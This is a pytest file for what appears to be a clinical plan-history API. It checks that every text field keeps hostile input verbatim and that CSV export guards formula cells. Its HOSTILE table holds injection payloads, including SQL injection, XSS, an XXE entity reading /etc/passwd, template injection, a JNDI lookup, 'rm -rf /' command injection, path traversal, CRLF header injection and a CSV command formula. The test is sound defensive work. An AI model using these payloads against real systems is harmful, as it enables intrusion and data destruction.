"""Hostile strings in every text field of every type of entry, and in every parameter: kept as they are,
or refused with a clear problem; never an error, never anything else done with them."""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import quote

import pytest
from werkzeug.routing import Rule

from domain.entry import CLINIC_TYPES, TYPES
from domain.fields import TextRule
from tests.api.house import Desk, House, an_id, entry, goal, refused
from tests.api.living import Living, Words, as_they_are, data_of, look_up, rule_of, texts_of
from tests.domain.samples import LIFE, SAMPLES

HOSTILE: dict[str, str] = {
    "SQL": "'; DROP TABLE plan_history.entries; --",
    "SQL, more of it": "1' OR '1'='1' UNION SELECT token_id::text FROM tokens /*",
    "a SQL pattern": "100%_\\% [a-z]* $1 :name %s ?",
    "a PostgreSQL array": '{NULL,"a\\"b",{c}}',
    "a script": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "an attribute": "\" onmouseover='alert(1)' style=\"x:expression(1)",
    "entities": "&lt;b&gt; &amp;amp; &#x3c; <![CDATA[x]]> <!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "a template": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{config.__class__}}",
    "a lookup": "${jndi:ldap://x/a} $(id) `id` ; rm -rf / | cat && x",
    "a path": "../../../../etc/passwd%00.html",
    "another path": "C:\\Windows\\..\\system.ini file:///etc/passwd \\\\host\\share",
    "a format": "{0} {name} {0.__class__.__init__.__globals__} {{}} }{",
    "another format": "%s %d %n %(name)s %%s %x",
    "JSON in a text": '{"type":"GoalSet","data":{"statement":"x"}}',
    "JSON that ends the text": '","recorded_by":{"name":"Somebody else"},"x":"',
    "a header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a CSV formula": "=cmd|' /C calc'!A0",
    "quotes and commas": '"a",\'b\';`c`\t“d”\n"""',
    "right to left": "\u202eevil\u202c \u2067abc\u2069 مرحبا بالعالم שלום",
    "zero width": "a\u200bb\u200c\u200dc\ufeffd\u2060e\u00ad",
    "emoji": "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇺🇦 👍🏽 \U0010fffd",
    "combining": "Z̷̘͝ä́l̴͖̕g̵͔̈ö́ e\u0301 \u212b \u0344",
    "odd cases": "İıſßŉǰ ΐ ﬁ Ǆ ẞ ς",
    "control characters": "a\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x80\x9fb",
    "line separators": "a\u2028b\u2029c\x85d\x1ce",
    "other digits": "١٢٣ ੧੨੩ １２３ ⅷ ½",
    "noncharacters": "a\ufffeb\uffffc\U0001fffed\ufdd0e",
    "a word of many": "null undefined None NaN true -0 1e999 0x1F Infinity",
    "very long": "Schlaf – 睡眠 – 😴 " * 700,
}


def everywhere(hostile: str) -> Words:
    """``hostile`` as every text, cut to what fits."""

    def words(_: str, rule: TextRule) -> str:
        return hostile[: rule.most].strip()

    return words


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
def test_a_life_of_hostile_words_is_kept_as_it_is(house: House, hostile: str) -> None:
    """Every text of every type of entry at once: the same in timeline, plan, NDJSON and CSV."""
    before = house.written()
    words = everywhere(hostile)
    living = Living.begin(house, words).live(words=words)
    desk = living.desk
    for _ in ("told live", "told by the read models"):
        told = desk.timeline("?limit=200")
        assert len(told) == len(LIFE)
        for sample, shown in zip(LIFE, told, strict=True):
            sent = living.entry(sample, words)
            assert shown["type"] == sample.type
            assert shown.get("reason") == sent.get("reason")
            for pointer, _field, text in texts_of(type(sample.data), data_of(sample.data, words)):
                assert look_up(shown["data"], pointer) == text, (sample.type, pointer)
        check_formats(desk, told)
        house.catch_up()
    plan = desk.get("?trace=true").json
    assert plan["client"]["label"] == words("", TextRule(most=200))
    for pointer in plan["entries"]:
        look_up(plan, pointer)
    assert desk.get(f"/diff?from=1&to={len(LIFE)}").status_code == 200
    assert house.written()[0] == before[0] + len(LIFE), "No more and no less was recorded"


def check_formats(desk: Desk, told: list[dict[str, Any]]) -> None:
    """NDJSON and CSV say what JSON says."""
    lines = desk.get("/timeline", Accept="application/x-ndjson").get_data(as_text=True)
    assert [json.loads(line) for line in lines.split("\n")[:-1]] == told
    table = desk.get("/timeline", Accept="text/csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    for row, shown in zip(rows, told, strict=True):
        for cell, value in (
            (row["sentence"], shown["sentence"]),
            (row["reason"], shown.get("reason", {}).get("text", "")),
        ):
            guarded = value[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert cell == ("'" + value if guarded else value)


def test_the_life_has_every_type_and_every_text_field() -> None:
    """What the test above walks through is the whole vocabulary; a new type or field shows up here."""
    assert set(SAMPLES) == set(TYPES)
    walked = {
        (sample.type, pointer.rstrip("0123456789").rstrip("/"))
        for sample in LIFE
        for pointer, _, _ in texts_of(type(sample.data), data_of(sample.data))
    }
    declared = {(name, pointer) for name, cls in TYPES.items() for pointer in declared_texts(cls)}
    optional_twice = {("ReviewHeld", "/why_not"), ("InterventionAdjusted", "/technique")}
    assert declared - walked - optional_twice <= LEFT_OUT, declared - walked


"""Hostile"""
